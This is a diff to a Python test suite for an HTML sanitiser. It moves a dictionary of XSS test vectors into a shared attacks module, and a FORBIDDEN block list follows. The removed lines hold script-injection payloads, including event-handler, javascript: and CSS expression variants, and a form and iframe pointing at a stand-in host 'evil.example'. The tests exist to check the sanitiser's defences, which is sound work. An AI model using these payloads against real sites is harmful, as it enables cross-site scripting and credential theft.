@@ -32,7 +32,9 @@ from tests.chaos.attacks import (
     FETCH,
     GOOD,
     HOSTILE_FETCHES,
+    MARKERS,
     TOTAL_TIMEOUT,
+    VECTORS,
     HostileUpstream,
     billion_laughs,
     xxe,
@@ -254,20 +256,6 @@ async def test_an_external_entity_is_never_read(tmp_path, hostile, redis, redis_
 
 # ------------------------------------------------------------------ the sanitiser
 
-# Each vector carries a marker that must not survive anywhere: not in the stored fields,
-# not in any served format (escaped or not).
-VECTORS = {
-    "XSS-script": "<script>alert('XSS-script')</script>",
-    "XSS-onerror": '<img src="https://good.example/a.png" onerror="alert(\'XSS-onerror\')">',
-    "XSS-onclick": "<p onclick=\"alert('XSS-onclick')\">click me</p>",
-    "XSS-js": "<a href=\"javascript:alert('XSS-js')\">a link</a>",
-    "XSS-svg": '<svg onload="alert(\'XSS-svg\')"><circle r="1"/></svg>',
-    "XSS-form": '<form action="https://evil.example/XSS-form"><input name="pw" value="XSS-input"></form>',
-    "XSS-iframe": '<iframe src="https://evil.example/XSS-iframe"></iframe>',
-    "XSS-expression": "<div style=\"width: expression(alert('XSS-expression'))\">styled</div>",
-    "XSS-css": "<style>body { background: url(\"javascript:alert('XSS-css')\") }</style>",
-}
-MARKERS = (*VECTORS, "XSS-input")
 FORBIDDEN = (
     "javascript:",
     "expression(",
